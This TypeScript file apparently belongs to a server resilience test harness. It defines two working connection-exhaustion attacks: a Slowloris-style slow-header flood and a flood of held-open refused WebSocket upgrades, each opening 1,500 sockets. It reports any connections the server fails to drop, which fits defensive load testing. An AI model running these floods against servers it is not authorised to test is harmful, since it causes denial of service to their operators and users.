/** Connections that stay on the doorstep: refused ones that do not leave, and some that never finish saying what they want. */
import { connect, type Socket } from 'node:net';
import { type Attack, type Figures, sleep, type Target } from './attack.ts';

const SOCKETS = 1_500;
const A_SECOND = 500;
/** With which the server's files were used up. */
const FILES = 1_024;
/** Seconds after which nobody stands there any more. */
const GONE_WITHIN = 15;

/** Opens them all and leaves them as they are; `keepOn` says something more now and then. */
async function stand({ url, from, seconds }: Target, greeting: string, keepOn?: string): Promise<Figures> {
  const { hostname, port } = new URL(url);
  const open = new Set<Socket>();
  let refused = 0;
  for (let n = 0; n < SOCKETS; n++) {
    const socket = connect({ port: Number(port), host: hostname, localAddress: from, allowHalfOpen: true });
    open.add(socket);
    socket
      .on('error', () => {})
      .on('data', () => refused++)
      .on('close', () => open.delete(socket))
      .write(greeting);
    if (n % (A_SECOND / 50) === 0) await sleep(20);
  }
  const most = open.size;
  const end = performance.now() + Math.max(seconds, GONE_WITHIN) * 1000;
  // A socket that the other side has ended for good notices only when it says something more.
  for (; performance.now() < end && open.size; await sleep(500)) for (const socket of open) socket.write(keepOn ?? '\r\n');
  const left = open.size;
  for (const socket of open) socket.destroy();
  return { opened: SOCKETS, stayed: most, refused, left };
}
const problems: Attack['problems'] = ({ figures }) => (figures.left ? [`${figures.left} of ${SOCKETS} are still there`] : []);

const upgrade = (path: string): string => `GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`;
export const REFUSED: Attack = {
  name: 'refused',
  says: `${SOCKETS} sockets are refused and do not leave, while the server may open ${FILES} files`,
  attack: (target) => stand(target, upgrade('/nowhere')),
  files: FILES,
  problems,
};
export const SLOW_HEADERS: Attack = {
  name: 'slow-headers',
  says: `${SOCKETS} connections say what they want a letter at a time`,
  attack: (target) => stand(target, 'GET / HTTP/1.1\r\nHost: x\r\nX: ', 'x'),
  files: FILES,
  problems,
};
